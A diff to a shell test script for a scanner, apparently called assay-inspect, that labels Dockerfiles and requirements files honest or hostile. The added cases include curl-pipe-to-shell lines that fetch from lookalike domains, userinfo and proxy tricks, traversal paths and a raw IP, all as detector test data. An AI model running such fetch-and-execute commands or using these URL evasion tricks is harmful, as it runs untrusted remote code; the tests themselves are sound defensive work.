@@ -76,7 +76,7 @@ honest a.py
 # who is known by the account, and who only names it
 printf 'git+https://github.com/openai/CLIP.git\n' >"$text"
 honest requirements.txt
-for url in github.com/openai-x/a github.com/x/openai/a example.org/git+https://github.com/openai/a; do
+for url in github.com/openai-x/a github.com/x/openai/a github.com/openai/%2e%2e/x/a example.org/git+https://github.com/openai/a; do
 	printf 'git+https://%s\n' "$url" >"$text"
 	file requirements.txt
 	exits 1 "$url" assay-inspect "$tmp/b"
@@ -88,6 +88,8 @@ cat >"$text" <<-'END'
 	FROM nvidia/cuda:12.1.0-runtime-ubuntu22.04
 	RUN curl -LsSf https://astral.sh/uv/install.sh | sh
 	RUN curl -sSL https://install.python-poetry.org | python3 -
+	RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
+	RUN wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash
 	RUN wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/m.sh && bash /tmp/m.sh -b
 	RUN pip install torch --index-url https://download.pytorch.org/whl/cu121
 	HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1
@@ -97,6 +99,13 @@ printf 'FROM a\nRUN curl https://astral.sh.example.org/uv/install.sh | sh\n' >"$
 hostile Dockerfile
 printf 'FROM a\nRUN curl https://astral.sh/uv/install.sh http://198.51.100.7/x | sh\n' >"$text"
 hostile Dockerfile
+for command in 'https://sh.rustup.rs.example.org' 'https://sh.rustup.rs@198.51.100.7/x' 'example.org/x https://get.docker.com' \
+    'https://get.docker.com example.org/x' 'https://pyenv.run:80@example.org' '-x example.org:80 https://pyenv.run' '-K a https://pyenv.run' \
+    'https://raw.githubusercontent.com/nvm-sh/nvm/../../x/y/install.sh' 'https://raw.githubusercontent.com/nvm-sh/nvm/$V/install.sh' \
+    'https://get.docker.com && curl http://198.51.100.7/x' '-k --proxy=a https://pyenv.run'; do
+	printf 'FROM a\nRUN curl %s | sh\n' "$command" >"$text"
+	hostile Dockerfile
+done
 printf 'Install with\n\n    %s\n' "$load" >"$text"
 honest README.md
 printf '{"text": "type %s to install"}' "$load" >"$text"
